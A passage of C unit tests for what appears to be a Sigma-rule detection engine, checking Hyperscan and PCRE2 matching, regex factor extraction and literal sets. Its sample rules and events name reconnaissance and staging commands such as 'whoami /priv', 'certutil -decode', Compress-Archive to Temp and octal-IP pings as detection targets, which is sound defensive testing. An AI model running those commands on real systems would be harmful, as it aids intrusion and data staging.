}

/* A slot's databases are grouped by product: Windows and Linux process
 * creation share a command-line test yet get a database each, the shared
 * test compiled into both, and a rule of no product is fed by both. An
 * event of both (a Sysmon event that also says type EXECVE) is scanned
 * with both databases and matches each rule once. */
static void product_groups(void **state)
{
	(void)state;
	det_rules *rs = rules_of(
	    "title: win whoami\n" PC "detection: {sel: {CommandLine|contains: whoami}, condition: sel}\n"
	    "---\ntitle: lnx whoami\nlogsource: {product: linux, category: process_creation}\n"
	    "detection: {sel: {CommandLine|contains: whoami}, condition: sel}\n"
	    "---\ntitle: lnx inode\nlogsource: {product: linux, category: process_creation}\n"
	    "detection: {sel: {CommandLine|re: '(?:\\s-[^-\\s]{0,20}i|\\s--inode\\s)'}, condition: sel}\n"
	    "---\ntitle: win certutil\n" PC
	    "detection: {sel: {CommandLine|contains: certutil}, condition: sel}\n"
	    "---\ntitle: any netstat\nlogsource: {category: process_creation}\n"
	    "detection: {sel: {CommandLine|contains: netstat}, condition: sel}\n");
	const slot_name *cl = rules_field_slots(rs, "CommandLine", 11);
	assert_non_null(cl);
	assert_int_equal(rs->slot_dbs[cl->own + 1] - rs->slot_dbs[cl->own], 2);
	char line[1024];
	event_json(line, sizeof line, "C:\\\\x.exe", "whoami -i / certutil netstat");
	assert_string_equal(run(rs, line), "win whoami;win certutil;any netstat");
	assert_string_equal(
	    run(rs, "{\"type\":\"EXECVE\",\"CommandLine\":\"whoami -i / certutil netstat\"}"),
	    "lnx whoami;lnx inode;any netstat");
	assert_string_equal(run(rs, "{\"type\":\"EXECVE\",\"CommandLine\":\"ls -d /\"}"), "");
	assert_string_equal(run(rs, "{\"type\":\"EXECVE\",\"Channel\":"
	                            "\"Microsoft-Windows-Sysmon/Operational\",\"EventID\":1,"
	                            "\"CommandLine\":\"whoami -i / certutil netstat\"}"),
	                    "win whoami;lnx whoami;lnx inode;win certutil;any netstat");
	det_rules_free(rs);
}

/* The matcher remembers an event's logsource entries by its format and
 * where-field values: one matcher over events of many programs in turn
 * (more than its memo holds, so places are taken over), a program name
 * too long to be remembered, and values that differ only in where one
 * ends, gives each event the entries of its own program. */
static void logsource_memo(void **state)
{
	(void)state;
	det_rules *rs = rules_of(
	    "title: sshd\nlogsource: {product: linux, service: sshd}\n"
	    "detection: {kw: [hello], condition: kw}\n"
	    "---\ntitle: auth\nlogsource: {product: linux, service: auth}\n"
	    "detection: {kw: [hello], condition: kw}\n"
	    "---\ntitle: syslog\nlogsource: {product: linux, service: syslog}\n"
	    "detection: {kw: [hello], condition: kw}\n");
	det_matcher *m = det_matcher_new(rs);
	char line[512], prog[256];
	for (int round = 0; round < 600; round++) {
		const char *want;
		switch (round % 5) {
		case 0: snprintf(prog, sizeof prog, "sshd"), want = "sshd;auth;syslog"; break;
		case 1: snprintf(prog, sizeof prog, "sudo"), want = "auth;syslog"; break;
		case 2: snprintf(prog, sizeof prog, "prog%d", round), want = "syslog"; break;
		case 3:
			memset(prog, 's', 150);
			snprintf(prog + 150, sizeof prog - 150, "%d", round);
			want = "syslog";
			break;
		default: snprintf(prog, sizeof prog, "sshdx"), want = "syslog"; break;
		}
		snprintf(line, sizeof line, "<38>Nov 23 10:00:00 web01 %s[1]: hello", prog);
		const char *why;
		hits[0] = '\0';
		assert_int_equal(det_parse_line(line, strlen(line), &OPTS, &ev, &why), 0);
		det_match(m, &ev, collect, NULL);
		if (strcmp(hits, want) != 0)
			fail_msg("%s: got \"%s\", want \"%s\"", line, hits, want);
	}
	det_matcher_free(m);
	det_rules_free(rs);
}

/* Tests tied to an end of the value (startswith, endswith, equality) are
 * found by walking tries, not Hyperscan: the same answers, letters
 * without case and other bytes exactly, a test that ends inside another
 * (prefix of a longer one), branches, and labels compared eight bytes at
 * a time with the difference at any place. */
static void anchored_literals(void **state)
{
	(void)state;
	det_rules *rs = rules_of(
	    "title: exe\n" PC "detection: {sel: {Image|endswith: '.exe'}, condition: sel}\n"
	    "---\ntitle: ps\n" PC
	    "detection: {sel: {Image|endswith: '\\WindowsPowerShell\\v1.0\\powershell.exe'}, "
	    "condition: sel}\n"
	    "---\ntitle: pwsh\n" PC
	    "detection: {sel: {Image|endswith: '\\pwsh.exe'}, condition: sel}\n"
	    "---\ntitle: exact\n" PC
	    "detection: {sel: {Image: 'C:\\Windows\\System32\\cmd.exe'}, condition: sel}\n"
	    "---\ntitle: win\n" PC
	    "detection: {sel: {Image|startswith: 'C:\\Windows\\'}, condition: sel}\n"
	    "---\ntitle: sys32\n" PC
	    "detection: {sel: {Image|startswith: 'C:\\Windows\\System32\\'}, condition: sel}\n"
	    "---\ntitle: accent\n" PC
	    "detection: {sel: {Image|endswith: '\\caf\xc3\xa9.exe'}, condition: sel}\n"
	    "---\ntitle: cmd-start\n" PC
	    "detection: {sel: {CommandLine|startswith: 'cmd.exe /c '}, condition: sel}\n"
	    "---\ntitle: cmd-whole\n" PC
	    "detection: {sel: {CommandLine: 'cmd.exe /c whoami'}, condition: sel}\n");
	char line[1024];
	event_json(line, sizeof line, "C:\\\\Windows\\\\System32\\\\cmd.exe", "cmd.exe /c whoami");
	assert_string_equal(run(rs, line), "exe;exact;win;sys32;cmd-start;cmd-whole");
	event_json(line, sizeof line, "c:\\\\WINDOWS\\\\system32\\\\CMD.EXE", "CMD.EXE /C WhoAmI");
	assert_string_equal(run(rs, line), "exe;exact;win;sys32;cmd-start;cmd-whole");
	/* One more byte at either end: no equality, the ends still hold. */
	event_json(line, sizeof line, "C:\\\\Windows\\\\System32\\\\cmd.exe2",
	           "cmd.exe /c whoami ");
	assert_string_equal(run(rs, line), "win;sys32;cmd-start");
	event_json(line, sizeof line, "C:\\\\Windows\\\\System32\\\\cmd.ex", "cmd.exe /c");
	assert_string_equal(run(rs, line), "win;sys32");
	/* A difference at each place of the long suffix, in case. */
	event_json(line, sizeof line,
	           "D:\\\\x\\\\windowspowershell\\\\V1.0\\\\POWERSHELL.exe", "x");
	assert_string_equal(run(rs, line), "exe;ps");
	event_json(line, sizeof line, "D:\\\\x\\\\WindowsPowerShell\\\\v1.1\\\\powershell.exe",
	           "x");
	assert_string_equal(run(rs, line), "exe");
	event_json(line, sizeof line, "D:\\\\x\\\\WindowsPowerShel_\\\\v1.0\\\\powershell.exe",
	           "x");
	assert_string_equal(run(rs, line), "exe");
	event_json(line, sizeof line, "\\\\WindowsPowerShell\\\\v1.0\\\\powershell.exe", "x");
	assert_string_equal(run(rs, line), "exe;ps");
	event_json(line, sizeof line, "WindowsPowerShell\\\\v1.0\\\\powershell.exe", "x");
	assert_string_equal(run(rs, line), "exe");
	event_json(line, sizeof line, "C:\\\\x\\\\PWSH.EXE", "x");
	assert_string_equal(run(rs, line), "exe;pwsh");
	/* Only ASCII letters fold: an E with acute accent is not the small
	 * one (UTF-8 C3 89, C3 A9). */
	event_json(line, sizeof line, "C:\\\\caf\xc3\xa9.EXE", "x");
	assert_string_equal(run(rs, line), "exe;accent");
	event_json(line, sizeof line, "C:\\\\CAF\xc3\x89.exe", "x");
	assert_string_equal(run(rs, line), "exe");
	event_json(line, sizeof line, "", "");
	assert_string_equal(run(rs, line), "");
	det_rules_free(rs);
}

/* A short test that wakes no rule is not scanned but tested when a woken
 * rule asks; a plain literal one by a search of its own (literal.c), not
 * PCRE2: the same answers at every place in the value, in either case. */
static void lazy_literals(void **state)
{
	(void)state;
	det_rules *rs = rules_of(
	    "title: hash\n" PC
	    "detection: {img: {Image|endswith: '\\cmd.exe'}, cl: {CommandLine|contains: '#'}, "
	    "condition: img and cl}\n"
	    "---\ntitle: xy\n" PC
	    "detection: {img: {Image|endswith: '\\cmd.exe'}, cl: {CommandLine|contains: 'Xy'}, "
	    "condition: img and cl}\n"
	    "---\ntitle: starts\n" PC
	    "detection: {img: {Image|endswith: '\\cmd.exe'}, cl: {CommandLine|startswith: 'a-'}, "
	    "condition: img and cl}\n"
	    "---\ntitle: ends\n" PC
	    "detection: {img: {Image|endswith: '\\cmd.exe'}, cl: {CommandLine|endswith: '-Z'}, "
	    "condition: img and cl}\n"
	    "---\ntitle: is\n" PC
	    "detection: {img: {Image|endswith: '\\cmd.exe'}, cl: {CommandLine: 'q'}, "
	    "condition: img and cl}\n");
	static const struct {
		const char *cmd, *want;
	} cases[] = {
	    {"#", "hash"},          {"a #b", "hash"},         {"ab#", "hash"},
	    {"xy", "xy"},           {"aXY", "xy"},            {"x y", ""},
	    {"A-xy", "xy;starts"},  {"ba-", ""},              {"b-z", "ends"},
	    {"-z-Z", "ends"},       {"-z ", ""},              {"Q", "is"},
	    {"qq", ""},             {"", ""},                 {"X#Y-zxY-z", "hash;xy;ends"},
	};
	for (size_t i = 0; i < sizeof cases / sizeof cases[0]; i++)
		expect_sysmon(rs, "C:\\\\x\\\\cmd.exe", cases[i].cmd, cases[i].want);
	/* Without the woken rule's other test nothing is asked. */
	expect_sysmon(rs, "C:\\\\x\\\\other.exe", "#xy", "");
	det_rules_free(rs);
}

/* A rule's own regular expression that is only a literal, left out of the
 * databases (it wakes no rule), is tested by lit_find: escapes of one
 * byte, bytes that stand for themselves, case kept unless |i, anchors;
 * with |m a '^' is a line's start and PCRE2 keeps it. Each condition
 * names the lazy test first: it is laid out after the scanned one. */
static void regex_literals(void **state)
{
	(void)state;
	det_rules *rs = rules_of(
	    "title: pad\n" PC
	    "detection: {img: {Image|endswith: '\\cmd.exe'}, cl: {CommandLine|re: '\\n\\n\\n'}, "
	    "condition: cl and img}\n"
	    "---\ntitle: dot\n" PC
	    "detection: {img: {Image|endswith: '\\cmd.exe'}, cl: {CommandLine|re: 'AB\\.ex'}, "
	    "condition: cl and img}\n"
	    "---\ntitle: starts\n" PC
	    "detection: {img: {Image|endswith: '\\cmd.exe'}, cl: {CommandLine|re|i: '^q\\-r'}, "
	    "condition: cl and img}\n"
	    "---\ntitle: line\n" PC
	    "detection: {img: {Image|endswith: '\\cmd.exe'}, cl: {CommandLine|re|m: '^zz'}, "
	    "condition: cl and img}\n"
	    "---\ntitle: plain\n" PC
	    "detection: {img: {Image|endswith: '\\cmd.exe'}, cl: {CommandLine|re: 'a b,c'}, "
	    "condition: cl and img}\n"
	    "---\ntitle: ends\n" PC
	    "detection: {img: {Image|endswith: '\\cmd.exe'}, cl: {CommandLine|re: 'Y\\.E\\z'}, "
	    "condition: cl and img}\n");
	static const struct {
		const char *expr;
		bool lit, cased, start, end;
	} pats[] = {
	    {"\\n\\n\\n", true, true, false, false}, {"AB\\.ex", true, true, false, false},
	    {"^q\\-r", true, false, true, false},    {"^zz", false, false, false, false},
	    {"a b,c", true, true, false, false},     {"Y\\.E\\z", true, true, false, true},
	};
	for (size_t i = 0; i < sizeof pats / sizeof pats[0]; i++) {
		const pattern *p = NULL;
		for (size_t k = 0; k < rs->n_patterns && p == NULL; k++)
			if (strcmp(rs->patterns[k].expr, pats[i].expr) == 0)
				p = &rs->patterns[k];
		assert_non_null(p);
		if (!p->lazy || (p->lit != NULL) != pats[i].lit)
			fail_msg("%s: lazy %d, literal test %d", pats[i].expr, p->lazy, p->lit != NULL);
		if (p->lit && (p->lit->cased != pats[i].cased || p->lit->start != pats[i].start ||
		               p->lit->end != pats[i].end))
			fail_msg("%s: cased %d start %d end %d", pats[i].expr, p->lit->cased,
			         p->lit->start, p->lit->end);
	}
	/* The scanned Image test comes first in each rule's steps. */
	for (size_t r = 0; r < rs->n_rules; r++) {
		assert_int_equal(rs->rules[r]->steps[0].kind, NODE_AND);
		assert_true(rs->rules[r]->steps[1].pattern >= 0);
		assert_int_equal(rs->rules[r]->steps[2].pattern, -1);
	}
	static const struct {
		const char *cmd, *want;
	} cases[] = {
	    {"a\\n\\n\\nb", "pad"},   {"a\\n\\nb\\n", ""},        {"xAB.exe", "dot"},
	    {"ab.exe", ""},           {"ABxex", ""},               {"Q-Rx", "starts"},
	    {"q-r", "starts"},        {"xq-r", ""},                {"a\\nzz", "line"},
	    {"zz", "line"},           {"azz", ""},                 {"xa b,cx", "plain"},
	    {"A B,C", ""},            {"xY.E", "ends"},            {"Y.Ex", ""},
	    {"y.e", ""},              {"a b,c\\n\\n\\nY.E", "pad;plain;ends"},
	};
	for (size_t i = 0; i < sizeof cases / sizeof cases[0]; i++)
		expect_sysmon(rs, "C:\\\\x\\\\cmd.exe", cases[i].cmd, cases[i].want);
	expect_sysmon(rs, "C:\\\\x\\\\other.exe", "a\\n\\n\\nb", "");
	det_rules_free(rs);
}

/* The strings a regular expression's every match contains (factor.c):
 * what Hyperscan scans in its place. "" in want: no factor. */
static void regex_factors(void **state)
{
	(void)state;
	static const struct {
		const char *expr, *want; /* want: the strings joined by '|' */
	} cases[] = {
	    /* Sigma wildcards as sigma_value.c writes them */
	    {"\\x5Cvsimmersiveactivatehelper.*\\x2Eexe\\z", "\\vsimmersiveactivatehelper"},
	    {"Compress\\x2DArchive\\x20\\x2DPath.*\\x2DDestinationPath.*\\x5CTemp",
	     "compress-archive -path"},
	    {"password.*\\x2Etxt\\z", "password"},
	    /* the best part wins; letters folded */
	    {"\\d+\\.\\d+ Version.*x", " version"},
	    {"FooBAR.*", "foobar"},
	    {"foo(bar)?baz.*qux", "foobaz|foobarbaz"},
	    {"x{3}abcd.*", "xxxabcd"},
	    {"ab{x.*", ""},     /* a brace that is no repeat: not read */
	    {"abcd{ 2}.*", ""}, /* a repeat from PCRE2 10.43 */
	    {"[A-Z]{2}longword\\s+", "longword"},
	    {"https?://0[0-9]{3,11}", "http://0|https://0"},
	    {"(?i)(?:set).*&&\\s?set.*(?:environment|invoke|\\$\\{?input).*&&.*\"",
	     "environment|invoke|$input|${input"},
	    {"(?:abcd|efgh)+", "abcd|efgh"},
	    {"(?:abcd|efgh.*)", "abcd|efgh"},
	    {"(?<name>abcd).*", "abcd"},
	    {"(?i:abcd)e.*", "abcde"},
	    {"ab(?#note)cd.*", "abcd"},
	    {"[ab]cde.*", "acde|bcde"},
	    {"\\x41\\tbc.*", "a\tbc"},
	    /* nothing required of every match, or too short */
	    {"a.*b", ""},
	    {"arp\\s+-a", ""},
	    {"[0-7]{7,13}", ""},
	    {"\\+.*\\+.*\\+.*\\+", ""},
	    {"(?:abc|de.*fghij)x*", ""},
	    {"(?:abcd)?x.*", ""},
	    {"(?:abcd)*x.*", ""},
	    {"(?:abcd|.*)x.*", ""},
	    {"(?=abcd)x.*", ""},
	    {"[^a]bcde.*", "bcde"},
	    /* strings Hyperscan scans well: left to it */
	    {"(?:-|/|\\xE2\\x80[\\x93-\\x95])query\\x20", ""},
	    {"EventCode\\x3D.462.", ""},
	    {"abcdef", ""},
	    /* not read: no factor claimed */
	    {"(abcd)\\1.*", ""},
	    {"(?x)abcd efgh.*", ""},
	    {"\\p{L}abcd.*", ""},
	    {"\\Qabcd\\E.*", ""},
	    {"abcd.*[[:alpha:]]", ""},
	    {"(?(1)abcd|efgh).*", ""},
	    {"(?<*x)(a|bcd>efgh).*", ""}, /* a look-behind, not a name */
	    {"(?<n-1>abcd).*", ""},
	    {"abcd{,3}.*", ""}, /* "{,3}": bytes in PCRE2 10.42, a repeat from 10.43 */
	    {"abcd{1,2.*", ""},
	    {"abcd.*(", ""},
	    {"abcd.*[x", ""},
	};
	for (size_t i = 0; i < sizeof cases / sizeof cases[0]; i++) {
		re_factor_set f;
		char got[2048] = "";
		if (re_factor(cases[i].expr, &f))
			for (int k = 0; k < f.n; k++)
				snprintf(got + strlen(got), sizeof got - strlen(got), "%s%.*s", k ? "|" : "",
				         f.len[k], (const char *)f.s[k]);
		if (strcmp(got, cases[i].want) != 0)
			fail_msg("%s: factor '%s', want '%s'", cases[i].expr, got, cases[i].want);
	}
}

/* The byte counts a regular expression's every match needs (factor.c),
 * for one with no factor: each need as its bytes, ':' and the count, in
 * the order tested. "" in want: none worth a test. */
static void regex_count_needs(void **state)
{
	(void)state;
	static const struct {
		const char *expr, *want;
	} cases[] = {
	    {"\\+.*\\+.*\\+.*\\+.*\\+", "+:5"},
	    {"`.*`.*`.*`.*`", "`:5"},
	    {"[0-7]{7,13}", "01234567:7"},
	    {"\\w+`(?:\\w+|-|.)`[\\w+|\\s]", "`:2"},
	    {"\"(?:\\{\\d\\})+\"\\s*-f", "{:1 }:1"},
	    {"\\s-\\s*<", "<:1"},
	    {"(?:\\+\\+|\\+).*x", "+:1"},
	    {"(?:\\+.*\\+){2,}", "+:4"},
	    {"[0-5]{4}.*", "012345:4"},
	    {"[0-9]{4}.*", ""}, /* ten bytes: too many to count */
	    /* nothing worth counting */
	    {"\\d{2,}x.*", ""},         /* two digits: in most lines */
	    {"(?:\\+|<).*", ""},       /* either byte: neither needed */
	    {"(?:\\+)?x.*", ""},       /* may be absent */
	    {"arp\\s+-a", ""},         /* letters, white space, '-' */
	    {"[+<>|&^%$#@!]{3,}", ""}, /* more than eight bytes */
	    {"\\+\\+\\+", ""},         /* no repeat: Hyperscan's */
	    {"(\\+)\\1.*", ""},        /* not read */
	};
	for (size_t i = 0; i < sizeof cases / sizeof cases[0]; i++) {
		re_counts c;
		char got[2048] = "";
		if (re_count_needs(cases[i].expr, &c))
			for (int k = 0; k < c.n; k++) {
				if (k)
					strcat(got, " ");
				for (unsigned b = 0; b < 256; b++)
					if (c.set[k][b / 64] >> (b % 64) & 1)
						snprintf(got + strlen(got), sizeof got - strlen(got), "%c", (int)b);
				snprintf(got + strlen(got), sizeof got - strlen(got), ":%d", c.k[k]);
			}
		if (strcmp(got, cases[i].want) != 0)
			fail_msg("%s: needs '%s', want '%s'", cases[i].expr, got, cases[i].want);
	}
}

/* Whether text holds each count c names. */
static bool holds_counts(const re_counts *c, const char *text, size_t n)
{
	for (int k = 0; k < c->n; k++) {
		int have = 0;
		for (size_t i = 0; i < n; i++)
			have += (int)(c->set[k][(unsigned char)text[i] / 64] >> ((unsigned char)text[i] % 64) & 1);
		if (have < c->k[k])
			return false;
	}
	return true;
}

/* Whether text (folded) contains one of f's strings. */
static bool holds_factor(const re_factor_set *f, const char *text, size_t n)
{
	for (int k = 0; k < f->n; k++)
		for (size_t i = 0; i + f->len[k] <= n; i++) {
			size_t j = 0;
			while (j < f->len[k] && lit_fold((unsigned char)text[i + j]) == f->s[k][j])
				j++;
			if (j == f->len[k])
				return true;
		}
	return false;
}

/* A random expression of a small grammar into re, and a string it matches
 * into text (both appended). */
static unsigned seed = 12345;
static unsigned rnd(unsigned n)
{
	seed = seed * 1103515245u + 12345u;
	return (seed >> 16) % n;
}
static void gen(char *re, char *text, int depth)
{
	static const char *const words[][2] = {
	    {"abca", "abca"}, {"Bcab", "Bcab"}, {"cab", "cab"}, {"AbBa", "AbBa"}, {"ca-b", "ca-b"},
	    {"bb", "bb"},     {"\\+", "+"},     {"<", "<"},     {"`", "`"},       {"[0-7]", "5"},
	    {"\\{", "{"},     {"[+<]", "<"}};
	int parts = 1 + (int)rnd(4);
	for (int i = 0; i < parts; i++) {
		switch (rnd(depth > 2 ? 6 : 9)) {
		case 0:
		case 1: {
			int w = (int)rnd(12);
			strcat(re, words[w][0]), strcat(text, words[w][1]);
			break;
		}
		case 2: strcat(re, "."), strcat(text, rnd(2) ? "x" : "a"); break;
		case 3: {
			strcat(re, ".*");
			static const char *const fill[] = {"", "b", " ab", "cabc"};
			strcat(text, fill[rnd(4)]);
			break;
		}
		case 4: strcat(re, "\\s+"), strcat(text, rnd(2) ? " " : "\t  "); break;
		case 5: strcat(re, "[abc]"), strcat(text, rnd(2) ? "c" : "b"); break;
		case 6: { /* (?:A|B) */
			char ra[512] = "", ta[512] = "", rb[512] = "", tb[512] = "";
			gen(ra, ta, depth + 1), gen(rb, tb, depth + 1);
			strcat(re, "(?:"), strcat(re, ra), strcat(re, "|"), strcat(re, rb), strcat(re, ")");
			strcat(text, rnd(2) ? ta : tb);
			break;
		}
		case 7: { /* (?:A)? or (?:A)* */
			char ra[512] = "", ta[512] = "";
			gen(ra, ta, depth + 1);
			strcat(re, "(?:"), strcat(re, ra), strcat(re, rnd(2) ? ")?" : ")*");
			if (rnd(2))
				strcat(text, ta);
			break;
		}
		case 8: { /* (?:A){1,3} or (?:A)+ */
			char ra[512] = "", ta[512] = "";
			gen(ra, ta, depth + 1);
			strcat(re, "(?:"), strcat(re, ra), strcat(re, rnd(2) ? "){1,3}" : ")+");
			strcat(text, ta);
			if (rnd(2))
				strcat(text, ta);
			break;
		}
		}
	}
}

/* Property: whenever PCRE2 finds a match, the text holds the factor, or
 * the counts. A factor or a count a match can lack would lose detections
 * silently. */
static void regex_factors_hold(void **state)
{
	(void)state;
	pcre2_match_data *md = pcre2_match_data_create(1, NULL);
	/* the grammar nests repeats: a bound keeps PCRE2's backtracking short
	 * (a match it gives up on is not checked) */
	pcre2_match_context *mc = pcre2_match_context_create(NULL);
	pcre2_set_match_limit(mc, 20000);
	int factored = 0, counted = 0, checked = 0, checked_counts = 0;
	for (int i = 0; i < 6000; i++) {
		char re[4096] = "", text[4096] = "";
		gen(re, text, 0);
		re_factor_set f;
		re_counts cn;
		bool has_f = re_factor(re, &f), has_c = !has_f && re_count_needs(re, &cn);
		if (!has_f && !has_c)
			continue;
		factored += has_f, counted += has_c;
		int code;
		PCRE2_SIZE at;
		pcre2_code *c = pcre2_compile((PCRE2_SPTR)re, PCRE2_ZERO_TERMINATED,
		                              rnd(2) ? PCRE2_CASELESS : 0, &code, &at, NULL);
		if (c == NULL)
			fail_msg("%s: not a valid expression", re);
		for (int k = 0; k < 8; k++) {
			char t[4096];
			strcpy(t, text);
			size_t n = strlen(t);
			if (k > 0 && n > 0) { /* a changed copy: a byte removed, changed or doubled */
				size_t at_ = rnd((unsigned)n);
				int how = (int)rnd(3);
				if (how == 0)
					memmove(t + at_, t + at_ + 1, n - at_);
				else if (how == 1)
					t[at_] = "abcAB -x+<`5{"[rnd(13)];
				else if (n + 1 < sizeof t)
					memmove(t + at_ + 1, t + at_, n - at_ + 1);
				n = strlen(t);
			}
			if (pcre2_match(c, (PCRE2_SPTR)t, n, 0, 0, md, mc) < 0)
				continue;
			checked++;
			if (has_f && !holds_factor(&f, t, n))
				fail_msg("%s matches '%s', which holds none of its %d factor strings (first "
				         "'%.*s')",
				         re, t, f.n, f.len[0], (const char *)f.s[0]);
			if (has_c && !holds_counts(&cn, t, n))
				fail_msg("%s matches '%s', which lacks a count it needs", re, t);
			checked_counts += has_c;
		}
		pcre2_code_free(c);
	}
	pcre2_match_context_free(mc);
	pcre2_match_data_free(md);
	/* the property was tried, not passed by having nothing to try */
	if (factored < 500 || counted < 100 || checked < 2000 || checked_counts < 200)
		fail_msg("only %d expressions with a factor, %d with counts, %d matches checked (%d "
		         "with counts)",
		         factored, counted, checked, checked_counts);
}

/* Factored and counted patterns in rules: Hyperscan finds the factor, or
 * the matcher counts the bytes; PCRE2 decides, with the expression's own
 * case. */
static void regex_factors_in_rules(void **state)
{
	(void)state;
	det_rules *rs = rules_of(
	    "title: zip\n" PC
	    "detection: {cl: {CommandLine|re: 'Compress-Archive -Path .*-DestinationPath .*Temp'}, "
	    "condition: cl}\n"
	    "---\ntitle: helper\n" PC
	    "detection: {img: {Image|endswith: '\\vsimmersiveactivatehelper*.exe'}, condition: img}\n"
	    "---\ntitle: both\n" PC
	    "detection: {img: {Image|endswith: '\\cmd.exe'}, "
	    "cl: {CommandLine|re|i: 'whoami\\s+/(?:priv|all)'}, condition: img and cl}\n"
	    "---\ntitle: plus\n" PC
	    "detection: {cl: {CommandLine|re: '\\+.*\\+.*\\+.*\\+'}, condition: cl}\n"
	    "---\ntitle: octal\n" PC
	    "detection: {cl: {CommandLine|re: '[0-7]{7,13}'}, condition: cl}\n"
	    "---\ntitle: long\n" PC
	    "detection: {cl: {CommandLine|re: 'abcd(?:x|yz)*efgh'}, condition: cl}\n"
	    "---\ntitle: backtrack\n" PC
	    "detection: {cl: {CommandLine|re: '(?:a+)+!!!!'}, condition: cl}\n");
	int factored = 0, counted = 0;
	for (size_t k = 0; k < rs->n_patterns; k++)
		factored += rs->patterns[k].factor != NULL, counted += rs->patterns[k].counts != NULL;
	assert_int_equal(factored, 5);
	assert_int_equal(counted, 2);
	static const struct {
		const char *image, *cmd, *want;
	} cases[] = {
	    {"C:\\\\x\\\\a.exe", "Compress-Archive -Path C:\\\\d -DestinationPath C:\\\\Temp\\\\o.zip",
	     "zip"},
	    {"C:\\\\x\\\\a.exe", "Compress-Archive -Path C:\\\\d", ""},
	    {"C:\\\\x\\\\a.exe", "COMPRESS-ARCHIVE -PATH x -DESTINATIONPATH Temp", ""},
	    {"C:\\\\x\\\\a.exe", "compress-archive -path x -DestinationPath Temp", ""},
	    {"C:\\\\x\\\\vsimmersiveactivatehelper64.exe", "a", "helper"},
	    {"C:\\\\X\\\\VSImmersiveActivateHelper.EXE", "a", "helper"},
	    {"C:\\\\x\\\\vsimmersiveactivatehelper64.exe.bak", "a", ""},
	    {"C:\\\\x\\\\cmd.exe", "cmd /c WHOAMI  /ALL", "both"},
	    {"C:\\\\x\\\\cmd.exe", "cmd /c whoami", ""},
	    {"C:\\\\x\\\\other.exe", "whoami /priv", ""},
	    {"C:\\\\x\\\\a.exe", "a+b+c+d+e", "plus"},
	    {"C:\\\\x\\\\a.exe", "a+b+c+d", ""},
	    {"C:\\\\x\\\\a.exe", "ping 0177000001", "octal"},
	    {"C:\\\\x\\\\a.exe", "ping 0170 0000 01", ""},
	    {"C:\\\\x\\\\a.exe", "ping 0189000001", ""},
	    {"C:\\\\x\\\\a.exe", "+1+2+3+0177000001", "plus;octal"},
	};
	for (size_t i = 0; i < sizeof cases / sizeof cases[0]; i++)
		expect_sysmon(rs, cases[i].image, cases[i].cmd, cases[i].want);
	/* PCRE2 must not give up where Hyperscan ran the pattern before it
	 * was factored: a long repeat (its JIT stack), and backtracking past
	 * its match limit (the factor that fired stands) */
	char *cmd = malloc(65538 + 3);
	assert_non_null(cmd);
	strcpy(cmd, "abcd");
	for (int i = 0; i < 5000; i++)
		strcat(cmd + 4 + 2 * i, "yz");
	strcat(cmd, "efgh");
	expect_sysmon(rs, "C:\\\\x\\\\a.exe", cmd, "long");
	memset(cmd, 'a', 25);
	strcpy(cmd + 25, "x a!!!!");
	expect_sysmon(rs, "C:\\\\x\\\\a.exe", cmd, "backtrack");
	/* counts past 65,535 of a byte (a counter of 16 bits wrapped) */
	for (size_t n = 65534; n <= 65538; n++) {
		memset(cmd, '+', n);
		memcpy(cmd + n, " x", 3);
		expect_sysmon(rs, "C:\\\\x\\\\a.exe", cmd, "plus");
	}
	free(cmd);
	det_rules_free(rs);
}

/* A rule with two clauses (sets of patterns one of each must fire) is
 * woken once a pattern of each has fired; one with one clause, at once. */
/* A slot with LIT_SET_MIN or more "contains" tests has them in a literal
 * set (literal_set.c), with the windash and "?" tests' strings and the
 * factors of its regular expressions; what they match is what Hyperscan
 * matched, compiled afresh, stored in a cache, and read back from it. */
static det_rules *set_rules(const char *cache)
{
	size_t cap = 64 * LIT_SET_MIN + 4096;
	char *yaml = malloc(cap);
	assert_non_null(yaml);
	int n = snprintf(yaml, cap, "title: many\n" PC "detection: {sel: {CommandLine|contains: [");
	for (int i = 0; i < LIT_SET_MIN; i++)
		n += snprintf(yaml + n, cap - (size_t)n, "%s'tok%04dx'", i ? ", " : "", i);
	snprintf(yaml + n, cap - (size_t)n,
	         "]}, condition: sel}\n"
	         "---\ntitle: dash\n" PC
	         "detection: {sel: {CommandLine|windash|contains: ' -decode '}, condition: sel}\n"
	         "---\ntitle: wild\n" PC
	         "detection: {sel: {CommandLine|contains: 'pa?sword'}, condition: sel}\n"
	         "---\ntitle: cased\n" PC
	         "detection: {sel: {CommandLine|contains|cased: 'WHOAMI'}, condition: sel}\n"
	         "---\ntitle: one\n" PC
	         "detection: {sel: {CommandLine|contains: '#'}, img: {Image|endswith: '\\x.exe'}, "
	         "condition: sel and img}\n"
	         "---\ntitle: zip\n" PC
	         "detection: {cl: {CommandLine|re: 'Compress-Archive -Path .*-DestinationPath'}, "
	         "condition: cl}\n"
	         "---\ntitle: re\n" PC /* Hyperscan's: something to cache */
	         "detection: {sel: {CommandLine|re: 'whoam\\w /priv'}, condition: sel}\n");
	det_rules *rs = det_rules_new();
	if (cache)
		det_rules_set_cache(rs, cache);
	diags d = DIAGS_INIT;
	assert_int_equal(det_rules_add(rs, yaml, strlen(yaml), "test.yml", &d), 7);
	assert_int_equal(d.n, 0);
	assert_int_equal(det_rules_compile(rs, &d), 0);
	diags_free(&d);
	free(yaml);
	return rs;
}

static void literal_sets_in_rules(void **state)
{
	(void)state;
	char *dir = scratch_new();
	for (int round = 0; round < 3; round++) { /* no cache, stored, read back */
		det_rules *rs = set_rules(round ? dir : NULL);
		if (round)
			assert_int_equal(det_rules_cache_state(rs, NULL),
			                 round == 1 ? DET_CACHE_STORED : DET_CACHE_HIT);
		int in_set = 0;
		for (size_t k = 0; k < rs->n_patterns; k++)
			in_set += rs->patterns[k].in_set;
		/* the thousand, the windash, "?" and cased tests, the factored
		 * one; "#" wakes no rule and is tested when "one" is woken */
		assert_int_equal(in_set, LIT_SET_MIN + 4);
		static const struct {
			const char *image, *cmd, *want;
		} cases[] = {
		    {"C:\\\\x\\\\a.exe", "run tok0000x", "many"},
		    {"C:\\\\x\\\\a.exe", "TOK0999X", "many"},
		    {"C:\\\\x\\\\a.exe", "tok1000x tok099x ok0500x", ""},
		    {"C:\\\\x\\\\a.exe", "certutil -decode a b", "dash"},
		    {"C:\\\\x\\\\a.exe", "certutil /DECODE a b", "dash"},
		    {"C:\\\\x\\\\a.exe", "certutil \xe2\x80\x94" "decode a b", "dash"},
		    {"C:\\\\x\\\\a.exe", "certutil \xe2\x80\x92" "decode a b", ""},
		    {"C:\\\\x\\\\a.exe", "certutil +decode a b", ""},
		    {"C:\\\\x\\\\a.exe", "certutil -decodehex a b", ""},
